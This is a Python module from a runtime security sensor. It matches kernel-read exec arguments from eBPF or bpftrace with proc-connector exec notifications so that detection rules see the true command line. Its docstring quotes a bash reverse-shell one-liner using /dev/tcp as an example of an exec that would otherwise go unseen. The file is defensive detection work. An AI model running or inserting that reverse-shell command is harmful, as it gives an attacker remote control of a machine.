"""Exec arguments read in the kernel, paired with the proc connector's exec notifications.

The proc connector says only that a pid exec'd; the process table then reads the command line
from ``/proc``. Under load that read can come late: after the process exec'd again
(``bash -c 'bash -i >& /dev/tcp/h/p 0>&1'`` execs ``bash -i`` in the same pid a millisecond
later, so both execs would read as ``bash -i`` and the reverse shell's command line is never
seen) or after it exited (no command line at all). The ebpf sensor (or bpftrace) reads each
exec's argv in the kernel at ``sched:sched_process_exec``, which fires in the exec'ing task just before the
proc connector's notification; both are stamped with ``CLOCK_MONOTONIC``.

:class:`ExecRecords` pairs them: an exec notification at kernel time ``T`` belongs to the latest
record of its pid stamped at or before ``T`` (the next exec's record can only come after the
whole next ``execve``, hundreds of microseconds later). When the record arrived first, the
notification is corrected before the rules see it; when it arrives later (the usual order: the
ebpf sensor drains exec records on a timer, bpftrace's go through its process), the already evaluated notification is corrected and
evaluated again, and only rules that did not fire the first time raise alerts. A ``/proc``
command line consistent with the record (equal, or extending a truncated record) is kept: it
is complete where the record holds only the first bytes.
"""

from __future__ import annotations

import dataclasses
from collections import OrderedDict
from typing import TypeVar

from garrison.model.runtime import Event
from garrison.runtime.process import copy_process
from garrison.runtime.sensors.bpftrace import escape

_T = TypeVar("_T")

#: seconds two sensors' conversions of the same kernel time to the epoch may differ by
TOLERANCE = 50e-6
#: an exec record older than this (seconds) before a notification speaks for no exec of it
WINDOW = 2.0


def argv_bytes(exe: str, args: list[str]) -> bytes:
    """A process's argv as the kernel holds it: NUL-terminated arguments."""
    if not exe and not args:
        return b""
    return b"".join(a.encode("utf-8", "surrogateescape") + b"\0" for a in (exe, *args))


def consistent(event: Event, record: Event) -> bool:
    """Whether ``event``'s command line is the one the kernel read at the exec of ``record``.

    bytes against bytes for the ebpf sensor's records; in bpftrace's ``%r`` rendering for its
    records (``argv_raw``), which cannot be decoded exactly (a literal ``\\x41`` in an argument
    reads back as ``A``), so the process's argv is rendered the same way instead."""
    seen = argv_bytes(event.proc.exe, event.proc.args)
    truncated = bool(record.args.get("truncated"))
    rendered = record.args.get("argv_raw")
    if isinstance(rendered, str):
        text = escape(seen)
        return text.startswith(rendered) if truncated else text == rendered
    raw = record.args.get("argv_bytes", b"")
    kernel = raw if isinstance(raw, bytes) else b""
    return seen.startswith(kernel) if truncated else seen == kernel


def with_argv(event: Event, record: Event) -> Event:
    """A copy of ``event`` whose process has the record's program: argv, path and name."""
    proc = copy_process(event.proc)
    src = record.proc
    proc.exe, proc.args, proc.exepath = src.exe, list(src.args), src.exepath
    if src.name:
        proc.name = src.name
    proc.exe_from_memfd = src.exepath.startswith("/memfd:") if src.exepath else None
    args = {**event.args, "argv_from": "kernel", "argv_truncated": bool(record.args.get("truncated"))}
    return dataclasses.replace(event, proc=proc, args=args)


def corrected(event: Event, record: Event) -> Event | None:
    """``event`` (evaluated before its record arrived) as the record shows it, or ``None`` when
    the record changes nothing: the argv when ``/proc`` disagreed with the kernel's, and, in a
    container, whether the binary is in the image (unknown when the process was gone before
    anyone looked, as a dropped payload that runs for a millisecond is)."""
    origin = record.args.get("origin")
    fix_origin = origin is not None and not event.container.is_host
    fix_origin = fix_origin and event.proc.exe_upper_layer != (origin == "upper")
    if consistent(event, record):
        if not fix_origin:
            return None
        fixed = dataclasses.replace(event, proc=copy_process(event.proc))
    else:
        fixed = with_argv(event, record)
    if fix_origin:
        fixed.proc.exe_upper_layer = origin == "upper"
    return fixed


class ExecRecords:
    """Exec records not paired yet, and evaluated exec notifications still waiting for theirs,
    per pid and in kernel order (bounded; each record pairs with one notification at most).

    A record ``R`` and a notification ``E`` of the same pid pair when ``E`` is the first
    notification at or after ``R`` and ``R`` comes after the pid's previous notification: the
    kernel emits record, notification, record, notification... for successive execs of a pid.
    """

    def __init__(self, size: int = 8192) -> None:
        self.size = size
        self._records: OrderedDict[int, list[Event]] = OrderedDict()
        # notifications already evaluated without a record: (event, rules that fired)
        self._waiting: OrderedDict[int, list[tuple[Event, set[str]]]] = OrderedDict()
        self._last: OrderedDict[int, float] = OrderedDict()  # pid -> time of its latest notification

    def add(self, record: Event) -> tuple[Event, set[str]] | None:
        """Keep a record; returns the evaluated notification it belongs to, if one waits for it."""
        pid, when = record.proc.pid, record.time
        waiting = self._waiting.get(pid)
        if waiting:
            for i, (event, fired) in enumerate(waiting):
                if event.time >= when - TOLERANCE:
                    if event.time - when >= WINDOW:
                        break
                    del waiting[: i + 1]  # earlier ones will never pair: their records came before
                    if not waiting:
                        del self._waiting[pid]
                    return event, fired
        _push(self._records, pid, record, self.size)
        return None

    def find(self, event: Event) -> Event | None:
        """The record of the exec ``event`` notifies, when it has arrived (taken: it pairs once)."""
        pid, when = event.proc.pid, event.time
        previous = self._last.pop(pid, float("-inf"))
        self._last[pid] = when
        if len(self._last) > self.size:
            self._last.popitem(last=False)
        records = self._records.get(pid)
        if not records:
            return None
        found = None
        for i, record in enumerate(records):
            if previous < record.time <= when + TOLERANCE and when - record.time < WINDOW:
                found = i  # records are in kernel order: the latest one that fits
        if found is None:
            return None
        record = records[found]
        del records[: found + 1]
        if not records:
            del self._records[pid]
        return record

    def wait(self, event: Event, fired: set[str]) -> None:
        """Remember an evaluated notification whose record has not arrived yet."""
        _push(self._waiting, event.proc.pid, (event, fired), self.size)


def _push(table: OrderedDict[int, list[_T]], pid: int, item: _T, size: int) -> None:
    items = table.pop(pid, None) or []
    items.append(item)
    table[pid] = items[-4:]
    if len(table) > size:
        table.popitem(last=False)
